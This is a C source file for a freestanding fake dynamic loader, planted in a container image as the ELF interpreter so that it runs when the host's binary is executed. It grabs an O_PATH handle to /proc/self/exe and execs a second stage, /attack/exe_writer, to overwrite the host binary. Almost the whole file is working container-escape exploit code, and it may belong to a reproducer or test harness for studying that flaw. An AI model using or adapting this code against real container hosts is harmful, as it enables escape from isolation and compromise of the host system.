/* SPDX-License-Identifier: GPL-2.0-or-later */
/* attacker-cflags: -nostdlib -fno-stack-protector -fno-builtin -fno-pie -no-pie -fno-tree-loop-distribute-patterns */
/* The image's "ELF interpreter", installed as /lib64/ld-linux-x86-64.so.2.
 * When the container gets the kernel to execute the host's casing binary
 * (dynamically linked: its PT_INTERP is that path, resolved in the
 * container's root), this code runs first, in a process whose
 * /proc/self/exe is the host binary.  It keeps an O_PATH handle of it and
 * execs the second stage (/attack/exe_writer) with the handle, so that it
 * no longer executes the binary itself.
 *
 * Freestanding (raw system calls): we are started with the auxiliary
 * vector of the casing binary, which a libc start-up would misread. */
#define _GNU_SOURCE
#include <asm/unistd.h>
#include <fcntl.h>

static long
sys3 (long n, long a, long b, long c)
{
  long r;
  __asm__ volatile ("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
  return r;
}

__asm__ (".text\n.global _start\n_start:\n\txor %rbp, %rbp\n\tmov %rsp, %rdi\n"
         "\tand $-16, %rsp\n\tcall fake_ldso_main\n\thlt\n");

static char *
put (char *p, const char *s)
{
  while (*s)
    *p++ = *s++;
  return p;
}

static char *
put_num (char *p, long v)
{
  char tmp[24];
  int n = 0;

  if (v < 0)
    {
      *p++ = '-';
      v = -v;
    }
  do
    tmp[n++] = '0' + v % 10;
  while ((v /= 10) && n < 23);
  while (n)
    *p++ = tmp[--n];
  return p;
}

static void
report_line (const char *a, long num, const char *b, const char *c)
{
  char line[512], *p = line;
  long fd;

  p = put (p, "fake_ldso: ");
  p = put (p, a);
  p = put_num (p, num);
  p = put (p, b);
  p = put (p, c);
  *p++ = '\n';
  fd = sys3 (__NR_open, (long) "/attack/report", O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0666);
  if (fd >= 0)
    {
      sys3 (__NR_write, fd, (long) line, p - line);
      sys3 (__NR_close, fd, 0, 0);
    }
}

void __attribute__ ((noreturn, used))
fake_ldso_main (long *sp)
{
  long argc = sp[0];
  char **argv = (char **) (sp + 1);
  char **envp = argv + argc + 1;
  char link[256], fdnum[24], *args[3];
  long fd, n;

  fd = sys3 (__NR_open, (long) "/proc/self/exe", O_PATH, 0);
  n = sys3 (__NR_readlink, (long) "/proc/self/exe", (long) link, sizeof link - 1);
  link[n > 0 ? n : 0] = '\0';
  report_line ("RUNNING in pid ", sys3 (__NR_getpid, 0, 0, 0), " as the interpreter of ",
               argc > 0 && argv[0] ? argv[0] : "?");
  report_line ("OPENED /proc/self/exe with O_PATH as fd ", fd, ": ", n > 0 ? link : "?");
  if (fd < 0)
    sys3 (__NR_exit_group, 1, 0, 0);
  *put_num (fdnum, fd) = '\0';
  args[0] = "exe_writer";
  args[1] = fdnum;
  args[2] = 0;
  n = sys3 (__NR_execve, (long) "/attack/exe_writer", (long) args, (long) envp);
  report_line ("execve /attack/exe_writer failed: error ", -n, "", "");
  sys3 (__NR_exit_group, 1, 0, 0);
  for (;;)
    ;
}
